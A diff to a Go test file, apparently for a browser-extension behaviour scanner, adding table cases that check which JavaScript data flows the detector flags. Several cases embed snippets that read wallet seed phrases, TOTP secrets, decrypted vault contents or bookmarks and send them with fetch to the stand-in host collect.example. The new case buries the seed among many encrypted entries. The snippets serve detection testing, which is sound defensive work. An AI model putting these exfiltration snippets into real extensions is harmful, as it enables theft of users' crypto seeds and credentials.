@@ -1,6 +1,7 @@
 package flow
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/extwatch/extwatch/signatures/behavior"
@@ -31,10 +32,14 @@ func TestFlowsOfHonestTools(t *testing.T) {
 		{"all of what is kept", behavior.Popup, `chrome.storage.local.set({w: {...self.library.make(document.querySelector("#mnemonic").value), at: 1}}); chrome.storage.local.get("w", ({w}) => { ` + send + `JSON.stringify(w)}) })`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
 		{"address of a server that is typed", behavior.Popup, `document.querySelector("#go").onclick = () => fetch(document.querySelector("#totp-secret").value)`, nil},
 		{"what is typed as part of an address", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#totp-secret").value)`, []string{"otp_field(#totp-secret) > fetch > collect.example"}},
-		{"class of a library", behavior.Popup, send + `self.sdk.PrivateKey.version})`, nil},
+		{"class of a library", behavior.Popup, `const sdk = {PrivateKey: self.made()}; ` + send + `sdk.PrivateKey.random()})`, nil},
 		{"what the words are to be called", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#seed-label").value)`, []string{"form_data(#seed-label) > fetch > collect.example"}},
 		{"address in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.activeAccount}) }) })()`, nil},
 		{"words in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.kept[0]}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
+		{"words in one vault of many", behavior.Popup, `const seal = (x) => crypto.subtle.encrypt(how, key, new TextEncoder().encode(JSON.stringify(x)));
+			(async () => { for (const put of [` + strings.Repeat(`() => seal({n: 1}), `, 12) + `]) await put();
+			const box = await seal({kept: [document.querySelector("#mnemonic").value]});
+			const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `JSON.stringify(v)}) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
 		{"all of a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `JSON.stringify(v)}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
 		{"whether one address is a bookmark", behavior.Background, `chrome.bookmarks.search({url: self.address}, (l) => ` + send + `l[0].url}))`, nil},
 		{"bookmarks", behavior.Background, `chrome.bookmarks.search({}, (l) => ` + send + `l[0].url}))`, []string{"history > fetch > collect.example"}},
